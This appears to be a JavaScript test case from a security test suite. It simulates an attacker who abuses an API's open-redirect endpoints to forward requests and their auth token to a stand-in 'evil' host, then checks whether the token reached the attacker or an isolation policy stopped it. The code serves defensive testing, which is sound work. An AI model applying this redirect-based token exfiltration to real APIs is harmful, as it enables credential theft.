// A real attacker: uses an open redirect of the API to have the request, and its token, sent on to their server.
export default {
  row: "own-endpoints",
  expected: ["loses", "loses"],
  after: async ({ api, evil, sibling, home }, { attempt }) => {
    const outcomes = [];
    for (const to of [
      `${evil}/v1/me`,
      `${sibling}/v1/me`,
      `//${new URL(evil).host}/`,
      `${home}/auth/refresh`,
      `${api}/reflect`,
    ]) {
      for (const path of ["/v1/redirect", "/open/redirect"]) {
        for (const redirect of ["follow", "manual", "error"]) {
          // There the API itself would give the token away: `listed-api-that-echoes`.
          if (to.startsWith(api) && path === "/open/redirect") continue;
          outcomes.push(await attempt(`${api}${path}?to=${encodeURIComponent(to)}`, { redirect }));
        }
      }
    }
    return outcomes;
  },
  reached: ({ brought, stolen, seen, context }) =>
    brought.length === 27 &&
    ["/v1", "/open"].every((at) =>
      seen.some(({ name, path }) => name === "api" && path === `${at}/redirect`),
    ) &&
    // Where redirects may be followed, the request has come to the attacker; the isolated vault's policy stops it before.
    (context.isolated || stolen.some((request) => /^(GET|OPTIONS) .*\/v1\/me\n/.test(request))),
};
